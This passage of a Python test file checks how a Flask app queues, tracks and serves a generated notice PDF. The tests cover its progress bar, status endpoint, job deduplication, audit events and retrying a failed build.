    queued = _queued_only(monkeypatch)
    address = f"/notices/roll/{published.notice_token}.pdf"
    waiting = app.test_client().get(address)
    assert waiting.status_code == 202
    page = waiting.get_data(as_text=True)
    assert "<progress" in page
    assert f'data-progress-url="{address}/status"' in page
    assert app.test_client().get(address).status_code == 202  # a second visitor: the same job
    assert len(queued) == 1
    assert app.test_client().get(f"{address}/status").get_json() == {"status": "pending", "progress": 0}

    notice_jobs.build(queued[0]["notice_pdf_id"])
    job = db.session.scalars(select(RollNoticePdf)).one()
    assert (job.status, job.progress) == ("done", 100)
    assert app.test_client().get(f"{address}/status").get_json() == {"status": "done", "progress": 100}
    served = app.test_client().get(address)
    assert (served.status_code, served.mimetype) == (200, "application/pdf")
    assert served.get_data() == job.pdf
    assert len(queued) == 1  # kept: not made again
    made = db.session.scalars(select(AuditEvent.action).where(AuditEvent.object_type == "roll_notice_pdf")).all()
    assert made == ["roll_notice_pdf.requested", "roll_notice_pdf.made"]


def test_the_notice_pdf_moves_its_progress_bar_and_a_failed_one_is_tried_again_on_request(app, published, monkeypatch):
    from app import jobs
    from app.roll import notice_jobs
    from app.roll.models import RollNoticePdf
    from app.roll.notice_pdf import CJK_FONT

    if not CJK_FONT.exists():
        pytest.skip("the notice PDF needs Debian's fonts-noto-cjk (installed by .ci/run and `make system-deps`)")
    queued = _queued_only(monkeypatch)
    monkeypatch.setattr("app.roll.notice_pdf.PROGRESS_EVERY", 1)
    address = f"/notices/roll/{published.notice_token}.pdf"
    app.test_client().get(address)
    job = db.session.scalars(select(RollNoticePdf)).one()
    seen: list[int] = []
    real_beat = jobs.beat

    def watched(row: Any) -> None:
        seen.append(row.progress)
        real_beat(row)

    monkeypatch.setattr(jobs, "beat", watched)
    notice_jobs.build(job.id)
    assert seen[0] == 0
    assert seen[-1] >= 66  # moved with the units: the bar's last step before the end
    assert seen == sorted(seen)

    job.status, job.pdf = "failed", None  # as if its worker had died
    job.failure = "silent"
    db.session.commit()
    failed = app.test_client().get(address)
    assert failed.status_code == 200
    assert "again=1" in failed.get_data(as_text=True)
    assert len(queued) == 1  # the failure page does not start another by itself
    assert app.test_client().get(f"{address}?again=1").status_code == 202
    assert len(queued) == 2
